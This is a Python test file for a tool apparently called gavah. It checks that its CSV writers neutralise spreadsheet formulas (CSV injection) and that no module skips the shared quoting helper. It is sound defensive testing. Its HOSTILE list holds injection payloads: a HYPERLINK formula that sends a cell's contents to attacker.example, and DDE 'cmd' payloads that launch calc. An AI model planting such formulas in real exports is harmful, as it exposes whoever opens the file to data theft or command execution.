"""Issue 13, finding 7: no CSV gavah writes carries a formula. A cell whose text begins with
= + - @ tab, carriage return or NUL is written with a quote before it (OWASP's CSV injection rule,
ASVS 5.0 1.2.10), in every writer, through one helper (gavah.text.spreadsheet)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from gavah.casualties.register import Rejected, write_rejected
from gavah.text import spreadsheet
from gavah.workspace import Workspace
from gavah_cli import gavah

SRC = Path(__file__).resolve().parents[2] / "src" / "gavah"
HOSTILE = [
    '=HYPERLINK("https://attacker.example/?"&A2,"Synthetic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+98 21 5555 0000",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_is_written_as_text(text: str) -> None:
    assert spreadsheet.cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-5, 3.5, 0, "-5", "+3.5", "-", "--", "Synthetic Person", "'=already quoted", "", None],
)
def test_numbers_dashes_and_plain_text_are_left_as_they_are(value: object) -> None:
    assert spreadsheet.cell(value) == value


@pytest.mark.parametrize("text", ["-\u06f5", "-5e3", "-5,0", "- 5", "-1-1", "-.5"])
def test_only_plain_ascii_decimals_count_as_numbers(text: str) -> None:
    assert spreadsheet.cell(text) == "'" + text


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_rejected_rows_file_carries_no_formula(tmp_path: Path) -> None:
    out = tmp_path / "rejected.csv"
    columns = ["name", "=col", "age"]
    row = {"name": HOSTILE[0], "=col": HOSTILE[1], "age": "-"}
    write_rejected(out, columns, [Rejected(7, "list.csv:7", row, "age '-5' is not an age")])
    header, cells = _read(out.read_text(encoding="utf-8-sig"))
    assert header == ["name", "'=col", "age", "line", "problem"]
    assert cells == ["'" + HOSTILE[0], "'" + HOSTILE[1], "-", "7", "age '-5' is not an age"]


def test_victims_register_csv_carries_no_formula(
    workspace: Workspace, cli_env: dict[str, str], tmp_path: Path
) -> None:
    listed = tmp_path / "list.json"
    listed.write_text(
        json.dumps([{"name": name, "date": "2026-01-08"} for name in HOSTILE[:4]]),
        encoding="utf-8",
    )
    assert gavah(cli_env, "victims", "import", str(listed), "--list", "SYN").returncode == 0
    assert gavah(cli_env, "victims", "link").returncode == 0
    run = gavah(cli_env, "victims", "register", "--format", "csv")
    assert run.returncode == 0, run.stderr
    names = [cells[3] for cells in _read(run.stdout)[1:]]
    assert sorted(names) == sorted("'" + name for name in HOSTILE[:4])


def test_sanctions_gaps_csv_carries_no_formula(
    workspace: Workspace, cli_env: dict[str, str], tmp_path: Path
) -> None:
    fixtures = Path(__file__).resolve().parents[1] / "fixtures" / "sanctions"
    imported = gavah(cli_env, "sanctions", "import", str(fixtures / "ofac"), "--format", "ofac",
                     "--list", "ofac")  # fmt: skip
    assert imported.returncode == 0, imported.stderr
    entities = tmp_path / "registry.jsonl"
    entities.write_text(
        json.dumps({"id": "p-1", "schema": "Person", "properties": {"name": [HOSTILE[0]]}})
        + "\n"
        + json.dumps({"id": "u-1", "schema": "PublicBody", "properties": {"name": [HOSTILE[1]]}})
        + "\n",
        encoding="utf-8",
    )
    assert gavah(cli_env, "registry", "import", str(entities)).returncode == 0
    run = gavah(cli_env, "sanctions", "gaps", "--format", "csv")
    assert run.returncode == 0, run.stderr
    names = sorted(cells[1] for cells in _read(run.stdout)[1:])
    assert names == sorted("'" + name for name in HOSTILE[:2])


_BYPASS = re.compile(r"csv\.(?:writer|DictWriter)\(|^\s*(?:from|import) (?:openpyxl|xlsxwriter)")


def test_no_writer_bypasses_the_shared_helper() -> None:
    """Every CSV writer goes through gavah.text.spreadsheet; gavah writes no XLSX (a future
    writer must pass its cells through spreadsheet.cell, and then be allowed here)."""
    readers = {"casualties/tables.py"}  # reads XLSX with openpyxl, writes none
    found = [
        f"{path.relative_to(SRC)}:{number}: {line.strip()}"
        for path in SRC.rglob("*.py")
        if path.relative_to(SRC).as_posix() not in {"text/spreadsheet.py", *readers}
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if _BYPASS.search(line)
    ]
    assert found == []
    tables = (SRC / "casualties" / "tables.py").read_text(encoding="utf-8")
    assert "csv.writer(" not in tables and "csv.DictWriter(" not in tables
    assert re.findall(r"openpyxl[.\w]* import (\w+)", tables) == [
        "load_workbook",
        "WorkSheetParser",
    ]
